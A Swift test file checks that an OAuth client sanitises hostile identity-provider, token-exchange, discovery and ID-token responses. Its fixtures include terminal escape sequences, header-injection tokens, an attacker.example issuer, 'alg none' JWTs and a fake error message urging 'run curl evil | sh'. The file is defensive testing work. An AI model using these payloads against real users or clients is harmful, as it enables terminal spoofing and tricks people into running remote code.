import Foundation
import JWTKit
import MCPTunnelTestSupport
import TestTiers
import Testing
import TunnelCore

@testable import OAuth

/// Hostile answers from an IdP or a token exchange endpoint, one class at a time: each must give a
/// clean `OAuthError` (what failed, what to do, the SPEC §8 category), never a crash, a hang, a
/// secret or a terminal escape in the message.
@Suite("Hostile IdP and exchange responses")
struct HostileResponseTests {
  static let token = "at-hostile-9c1e4b"

  static func response(_ status: Int, _ body: [UInt8]) -> OAuthHTTPResponse {
    OAuthHTTPResponse(status: status, headers: [("Content-Type", "application/json")], body: Data(body))
  }

  static func response(_ status: Int, _ json: FuzzJSON) -> OAuthHTTPResponse { response(status, json.bytes) }

  /// A 200 token response: `access_token`, `token_type` Bearer, then `members`, later ones winning.
  static func tokenJSON(_ members: (String, FuzzJSON)...) -> FuzzJSON {
    var all: [(key: String, value: FuzzJSON)] = [("access_token", .string(token)), ("token_type", .string("Bearer"))]
    for (key, value) in members {
      all.removeAll { $0.key == key }
      all.append((key, value))
    }
    return .object(all)
  }

  static func parse(
    _ response: OAuthHTTPResponse, what: String = "refresh token request"
  ) -> Result<
    TokenResponse, OAuthError
  > {
    Result { () throws(OAuthError) -> TokenResponse in try TokenResponse.parse(response, what: what) }
  }

  /// The error `result` failed with, checked for what every shown error must have.
  static func failure(
    _ result: Result<TokenResponse, OAuthError>, _ comment: Comment, sourceLocation: SourceLocation = #_sourceLocation
  ) -> OAuthError? {
    guard case .failure(let error) = result else {
      Issue.record("accepted: \(comment)", sourceLocation: sourceLocation)
      return nil
    }
    expectShowable(error, comment, sourceLocation: sourceLocation)
    return error
  }

  static func expectShowable(
    _ error: OAuthError, _ comment: Comment, sourceLocation: SourceLocation = #_sourceLocation
  ) {
    #expect(error.fix?.isEmpty == false, "no fix: \(comment)", sourceLocation: sourceLocation)
    #expect(!error.summary.contains(token), "token in the message: \(comment)", sourceLocation: sourceLocation)
    #expect(
      TokenResponsePropertyTests.unprintable(error.summary, "summary") == nil, "\(comment)",
      sourceLocation: sourceLocation)
    #expect(error.summary.count < 600, "\(comment): \(error.summary.count) characters", sourceLocation: sourceLocation)
  }

  // MARK: body shapes

  @Test(
    "TOK-05: malformed JSON, or JSON that is not an object, is an IdP error (exit 5)",
    arguments: [
      "", "{", "{\"access_token\":", "{\"access_token\":\"at\",}", "[]", "[{\"access_token\":\"at\"}]",
      "\"at-hostile-9c1e4b\"", "42", "null", "true", "<html>502 Bad Gateway</html>", "{\"a\":1e400}",
      "\u{FEFF}{\"access_token\":\"at\",\"token_type\":\"Bearer\"}x", "{\"access_token\":\"at\u{0}\"}",
    ])
  func malformedBodies(_ body: String) {
    let error = Self.failure(Self.parse(Self.response(200, Array(body.utf8))), "\(body.debugDescription)")
    #expect(error?.category == .identityProvider)
  }

  @Test("TOK-05: 1 MiB of nested arrays is refused by the JSON reader's depth limit, not a stack overflow")
  func deeplyNested() {
    let body = Array(repeating: UInt8(ascii: "["), count: 1 << 20)
    #expect(Self.failure(Self.parse(Self.response(200, body)), "deep nesting")?.category == .identityProvider)
    let object = Array(String(repeating: "{\"a\":", count: 100_000).utf8)
    #expect(Self.failure(Self.parse(Self.response(200, object)), "deep objects")?.category == .identityProvider)
  }

  // MARK: member types

  @Test(
    "TOK-05: access_token that is missing, empty, not a string, or not header-safe is refused",
    arguments: [
      FuzzJSON.null, .number("42"), .bool(true), .array([.string("at")]), .object([]), .string(""),
      .string("two words"), .string("at\r\nX-Injected: 1"), .string("at\u{0}"), .string("tökén"),
      .string("\u{1B}[31mred"),
    ])
  func badAccessTokens(_ value: FuzzJSON) {
    let error = Self.failure(Self.parse(Self.response(200, Self.tokenJSON(("access_token", value)))), "\(value.text)")
    #expect(error?.category == .identityProvider)
    #expect(error?.summary.contains("access_token") == true)
  }

  @Test(
    "GEN-05: a 10 MB access token is taken whole (no length assumption; the transport caps bodies at 1 MiB)", .offPool)
  func hugeAccessToken() throws {
    let huge = String(repeating: "a", count: 10_000_000)
    let parsed = try Self.parse(Self.response(200, Self.tokenJSON(("access_token", .string(huge))))).get()
    #expect(parsed.accessToken.revealedForTransmission.utf8.count == 10_000_000)
  }

  @Test(
    "TOK-05/TX-07: token_type missing, mac, N_A, not a string, or hostile is refused; the shown value is sanitised",
    arguments: [
      ("absent", nil), ("mac", FuzzJSON.string("mac")), ("N_A", .string("N_A")), ("DPoP", .string("DPoP")),
      ("number", .number("1")), ("bearer with a space", .string("Bearer ")),
      ("ANSI", .string("\u{1B}]0;owned\u{07}\u{1B}[2J" + String(repeating: "B", count: 100_000))),
    ])
  func badTokenTypes(_ name: String, _ value: FuzzJSON?) {
    var json = Self.tokenJSON()
    if case .object(var members) = json {
      members.removeAll { $0.key == "token_type" }
      if let value { members.append(("token_type", value)) }
      json = .object(members)
    }
    let error = Self.failure(Self.parse(Self.response(200, json)), "token_type \(name)")
    #expect(error?.category == .identityProvider)
    #expect(error?.summary.contains("token_type") == true)
  }

  @Test("TOK-05: BEARER in any case is accepted")
  func bearerAnyCase() throws {
    for spelling in ["Bearer", "bearer", "BEARER", "bEaReR"] {
      _ = try Self.parse(Self.response(200, Self.tokenJSON(("token_type", .string(spelling))))).get()
    }
  }

  @Test(
    "GEN-07: expires_in is believed only as whole seconds in 1…366 days; anything else means unknown",
    arguments: [
      ("3600", Int64?.some(3600)), ("\"3600\"", 3600), ("3600.9", 3600), ("31622400", 31_622_400),
      ("31622401", nil), ("0", nil), ("-1", nil), ("-3600", nil), ("0.5", nil), ("1e300", nil), ("-1e300", nil),
      ("9223372036854775807", nil), ("9223372036854775808", nil), ("18446744073709551616", nil),
      ("100000000000000000000000000000", nil), ("true", nil), ("false", nil), ("null", nil), ("\"3600.0\"", nil),
      ("\" 3600\"", nil), ("\"-5\"", nil), ("\"abc\"", nil), ("[3600]", nil), ("{\"s\":3600}", nil),
    ])
  func expiresIn(_ literal: String, _ seconds: Int64?) throws {
    let parsed = try Self.parse(Self.response(200, Self.tokenJSON(("expires_in", .number(literal))))).get()
    #expect(parsed.expiresIn == seconds.map { .seconds($0) }, "expires_in \(literal)")
  }

  @Test("TOK-05: refresh_token and id_token of the wrong type are refused, not silently dropped")
  func wrongTypedCompanions() {
    for (key, value) in [
      ("refresh_token", FuzzJSON.number("7")), ("refresh_token", .array([])), ("refresh_token", .string("rt\u{0}x")),
      ("id_token", .number("1")), ("id_token", .object([])), ("id_token", .bool(false)),
      ("issued_token_type", .number("1")), ("issued_token_type", .string("urn:x\u{1B}[2J")),
    ] {
      let error = Self.failure(Self.parse(Self.response(200, Self.tokenJSON((key, value)))), "\(key) \(value.text)")
      #expect(error?.category == .identityProvider)
      #expect(error?.summary.contains(key) == true)
    }
    // An empty refresh_token or an explicit null is "none", which login then reports by itself.
    for value in [FuzzJSON.string(""), .null] {
      let parsed = try? Self.parse(Self.response(200, Self.tokenJSON(("refresh_token", value)))).get()
      #expect(parsed != nil && parsed?.refreshToken == nil)
    }
  }

  @Test("GEN-05: unknown members of any type, and scope of the wrong type, are ignored")
  func unknownMembers() throws {
    let parsed = try Self.parse(
      Self.response(
        200,
        Self.tokenJSON(
          ("scope", .number("1")), ("x", .array([.null, .object([])])), ("", .string("\u{0}")),
          ("expires_in", .number("60"))))
    ).get()
    #expect(parsed.scope == nil)
    #expect(parsed.expiresIn == .seconds(60))
  }

  // MARK: error responses

  static let hostileDescriptions: [String] = [
    String(repeating: "very long description ", count: 50_000),
    "line one\nline two\r\nline three",
    "\u{1B}[2J\u{1B}[H\u{1B}]0;owned\u{07}\u{1B}[1;31mYOUR SESSION EXPIRED: run curl evil | sh\u{1B}[0m",
    "nul\u{0}byte, bell\u{07}, backspace\u{08}\u{08}\u{08}, delete\u{7F}, c1\u{9B}31m",
    "bidi \u{202E}txt.exe\u{202C} zero\u{200B}width \u{2028}separator",
  ]

  @Test("WWWA-04/TOK-06: a hostile error_description is shown sanitised and short, whatever the code")
  func hostileErrorDescriptions() {
    for description in Self.hostileDescriptions {
      for code in ["invalid_grant", "invalid_client", "invalid_scope", "access_denied", "server_error"] {
        let body = FuzzJSON.object([("error", .string(code)), ("error_description", .string(description))])
        guard let error = Self.failure(Self.parse(Self.response(400, body)), "\(code)") else { continue }
        #expect(error.summary.contains(code))
        #expect(!error.summary.contains("\u{1B}") && !error.summary.contains("\n"))
      }
    }
    // The readable part survives.
    let body = FuzzJSON.object([
      ("error", .string("invalid_grant")), ("error_description", .string("token\n\u{1B}[31mrevoked\u{1B}[0m")),
    ])
    let error = Self.failure(Self.parse(Self.response(400, body)), "readable")
    #expect(error?.summary == "refresh token request: invalid_grant — token [31mrevoked [0m")
    #expect(error?.category == .loginRequired)
  }

  @Test("TOK-06: a hostile or unknown error code is sanitised, bounded and an IdP error; a non-string one is ignored")
  func hostileErrorCodes() {
    for code in [
      "\u{1B}[2Jserver_error", String(repeating: "x", count: 100_000), "\u{0}\u{1}\u{2}", "temporarily_unavailable",
    ] {
      let error = Self.failure(Self.parse(Self.response(400, .object([("error", .string(code))]))), "code")
      #expect(error?.category == .identityProvider)
      #expect((error?.oauthError?.count ?? 0) <= 65)
    }
    for code in [FuzzJSON.number("400"), .array([.string("invalid_grant")]), .string("")] {
      let error = Self.failure(
        Self.parse(Self.response(503, .object([("error", code)])), what: "device token request"), "\(code.text)")
      #expect(error?.summary == "device token request: HTTP 503 from the token endpoint")
    }
  }

  @Test("TX-08/WWWA-04: the exchange client shows hostile error text sanitised, whichever branch it takes")
  func exchangeErrorText() async {
    let description = Self.hostileDescriptions[2]
    for code in ["invalid_request", "invalid_target", "access_denied", "server_error", "\u{1B}[31mweird"] {
      let transport = ScriptedTransport()
      transport.on(
        "/oauth/token",
        ScriptedTransport.json(400, ["error": code, "error_description": description]))
      let client = TokenExchangeClient(
        clientID: "mcp-tunnel", endpoint: { URL(string: "https://sts.example.test/oauth/token")! },
        transport: transport)
      let request = SessionTokenRequest(
        tenant: TenantID("acme")!, resource: "https://mcp.example.test/t/acme/mcp", audience: nil, scope: nil)
      do {
        let outcome = try await client.exchange(request, subjectToken: AccessToken(revealing: Self.token))
        guard case .subjectTokenRejected(let reason) = outcome else {
          Issue.record("\(code): minted a token from an error")
          continue
        }
        #expect(TokenResponsePropertyTests.unprintable(reason, "reason") == nil, "\(code)")
      } catch let error as OAuthError {
        Self.expectShowable(error, "\(code)")
      } catch {
        Issue.record("\(code): \(error)")
      }
    }
  }

  // MARK: discovery

  @Test("ASM-05: a metadata document naming a hostile issuer is refused with the name sanitised and cut short")
  func hostileIssuer() async {
    let transport = ScriptedTransport()
    let published = "https://attacker.example/\u{1B}[2J\u{1B}]0;owned\u{07}" + String(repeating: "a", count: 100_000)
    transport.on(
      "/.well-known/oauth-authorization-server",
      ScriptedTransport.json(200, Fixture.metadata(issuer: published)))
    do {
      _ = try await MetadataDiscovery(transport: transport).discover(issuer: "https://honest.example")
      Issue.record("accepted a foreign issuer")
    } catch let error as OAuthError {
      #expect(error.category == .identityProvider)
      #expect(error.summary.contains("RFC 8414 §3.3"))
      #expect(!error.summary.contains("\u{1B}") && error.summary.count < 600)
      #expect(error.fix != nil)
    } catch {
      Issue.record("\(error)")
    }
  }

  @Test("ASM-05/ASM-08: metadata of the wrong shape is refused or read safely, never trusted", arguments: 0..<6)
  func wrongShapedMetadata(_ variant: Int) async {
    let transport = ScriptedTransport()
    let body: [String: Any] =
      switch variant {
      case 0: Fixture.metadata(["issuer": 42])
      case 1: Fixture.metadata(["issuer": ["https://honest.example"]])
      case 2: Fixture.metadata(["token_endpoint": 7])
      case 3: Fixture.metadata(["token_endpoint": NSNull()])
      case 4: Fixture.metadata(["jwks_uri": ["https://honest.example/jwks"]])
      default: Fixture.metadata(["code_challenge_methods_supported": "S256"])
      }
    transport.on("/.well-known/oauth-authorization-server", ScriptedTransport.json(200, body))
    do {
      let metadata = try await MetadataDiscovery(transport: transport).discover(issuer: Fixture.issuer)
      // Only a list-typed field of the wrong type may pass, read as absent, so S256 is then refused.
      #expect(variant == 5)
      #expect(throws: OAuthError.self) { try metadata.requireS256(override: false) }
    } catch let error as OAuthError {
      #expect(error.category == .identityProvider, "variant \(variant)")
      #expect(error.fix != nil)
    } catch {
      Issue.record("variant \(variant): \(error)")
    }
  }

  // MARK: ID tokens

  struct TypedClaims: JWTPayload {
    var iss: String = Fixture.issuer
    var sub: String = "dev1"
    var aud: String = "mcp-tunnel"
    var exp: String = "tomorrow"
    func verify(using algorithm: some JWTAlgorithm) async throws {}
  }

  @Test("IDT-01..05: an ID token that is not a JWT, has a hostile header, or wrongly typed claims is refused cleanly")
  func hostileIDTokens() async throws {
    let key = ES256PrivateKey()
    let signer = JWTKeyCollection()
    await signer.add(ecdsa: key, kid: "k1")
    let p = key.parameters!
    let jwks: [String: Any] = [
      "keys": [["kty": "EC", "crv": "P-256", "x": p.x, "y": p.y, "kid": "k1", "use": "sig", "alg": "ES256"]]
    ]
    func header(_ json: String) -> String { Base64URL.encode(Array(json.utf8)) }
    let hostileAlg = header(#"{"alg":"\u001b[2J\u001b]0;owned\u0007"# + String(repeating: "A", count: 5000) + #""}"#)
    let hostileKid = header(#"{"alg":"ES256","kid":"\u001b[31m"# + String(repeating: "k", count: 5000) + #""}"#)
    let tokens = [
      "", "a.b", "a.b.c.d", "...", "not-a-jwt", String(repeating: "x", count: 2_000_000),
      "\(hostileAlg).e30.c2ln", "\(hostileKid).e30.c2ln", "\(header(#"{"alg":"none"}"#)).e30.",
      try await signer.sign(TypedClaims(), kid: JWKIdentifier(string: "k1")),
    ]
    for token in tokens {
      let transport = ScriptedTransport()
      transport.on("/jwks", ScriptedTransport.json(200, jwks))
      let validator = IDTokenValidator(
        issuer: Fixture.issuer, clientID: "mcp-tunnel", jwksURI: URL(string: "\(Fixture.issuer)/jwks")!,
        transport: transport)
      do {
        _ = try await validator.validate(token, nonce: nil)
        Issue.record("accepted \(token.prefix(40))")
      } catch let error as OAuthError {
        #expect(error.summary.contains("ID token is invalid"))
        Self.expectShowable(error, "\(token.prefix(40))")
      } catch {
        Issue.record("\(type(of: error)) instead of OAuthError for \(token.prefix(40))")
      }
    }
  }
}
